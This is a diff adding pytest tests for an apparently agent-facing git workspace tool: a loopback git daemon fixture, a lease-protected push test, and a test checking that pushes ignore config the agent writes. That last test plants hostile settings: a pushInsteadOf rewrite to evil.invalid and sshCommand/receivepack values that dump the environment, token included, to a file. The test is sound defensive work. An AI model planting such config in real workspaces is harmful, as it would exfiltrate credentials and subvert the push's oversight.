@@ -547,3 +547,88 @@ def test_timeout_kills_the_process_group(tmp_path: Path) -> None:
     assert all(wait_until_gone(pid) for pid in seen)
     assert not mirror.exists()
     assert not mirror.path.with_name(mirror.path.name + ".partial").exists()
+
+
+@pytest.fixture
+def daemon_url(upstream: Upstream) -> Iterator[str]:
+    """`git daemon` serving the upstream, pushes allowed: a network remote (git://) on
+    loopback, which the workspace pushes to with the git CLI."""
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    base = upstream.bare.parent
+    daemon = subprocess.Popen(
+        ["git", "daemon", "--reuseaddr", "--export-all", "--enable=receive-pack",
+         "--listen=127.0.0.1", f"--port={port}", f"--base-path={base}", str(base)],
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
+    )  # fmt: skip
+    try:
+        deadline = time.monotonic() + 10
+        while True:
+            with socket.socket() as client:
+                if client.connect_ex(("127.0.0.1", port)) == 0:
+                    break
+            assert time.monotonic() < deadline, "git daemon did not start"
+            time.sleep(0.05)
+        yield f"git://127.0.0.1:{port}/{upstream.bare.name}"
+    finally:
+        os.killpg(daemon.pid, 15)
+        daemon.wait(10)
+
+
+def test_network_push_creates_updates_and_refuses_a_stale_lease(
+    tmp_path: Path, upstream: Upstream, daemon_url: str, git_calls: list[str]
+) -> None:
+    root = tmp_path / "fleet"
+    mirror = Mirror(root, daemon_url, timeout=30)
+    mirror.ensure()
+    ws = prepare_workspace(mirror, root, "worker-01", 9, "main")
+    (ws.path / "a.txt").write_text("a\n")
+    first = ws.commit_all("a", *AUTHOR)
+    git_calls.clear()
+    ws.push()
+    assert git_calls == ["push"]
+    assert upstream.rev("refs/heads/ai-feature/issue-9") == first
+
+    (ws.path / "a.txt").write_text("a, again\n")
+    second = ws.commit_all("again", *AUTHOR)
+    ws.push()  # the lease follows the first push
+    assert upstream.rev("refs/heads/ai-feature/issue-9") == second
+    git(upstream.bare, "fsck", "--strict", "--no-progress")
+
+    stale = prepare_workspace(mirror, root, "worker-02", 9, "main")  # the mirror predates both
+    (stale.path / "b.txt").write_text("b\n")
+    stale.commit_all("b", *AUTHOR)
+    with pytest.raises(WorkspaceError, match="git push failed") as excinfo:
+        stale.push()
+    assert f"failed in {stale.path} " in str(excinfo.value)  # not the push's private folder
+    assert upstream.rev("refs/heads/ai-feature/issue-9") == second
+
+
+def test_network_push_ignores_what_the_agent_wrote_in_the_workspace_git_config(
+    tmp_path: Path, upstream: Upstream, daemon_url: str
+) -> None:
+    """The agent can run `git config` in its workspace; the push, which holds the token,
+    must not run the programs such settings name."""
+    root = tmp_path / "fleet"
+    mirror = Mirror(root, daemon_url, auth=GitAuth(TOKEN), timeout=30)
+    mirror.ensure()
+    ws = prepare_workspace(mirror, root, "worker-01", 10, "main")
+    leak = tmp_path / "leaked-env"
+    grab = f"sh -c 'env > {leak}; exit 1'"
+    included = tmp_path / "included.gitconfig"
+    included.write_text(f"[core]\n\tsshCommand = {grab}\n")
+    for key, value in [
+        ("url.ssh://git@evil.invalid/.pushInsteadOf", daemon_url),
+        ("core.sshCommand", grab),
+        ("remote.origin.receivepack", grab),
+        ("include.path", str(included)),
+    ]:
+        git(ws.path, "config", "--add", key, value)
+    (ws.path / "c.txt").write_text("c\n")
+    sha = ws.commit_all("c", *AUTHOR)
+
+    ws.push()
+
+    assert not leak.exists()
+    assert upstream.rev("refs/heads/ai-feature/issue-10") == sha
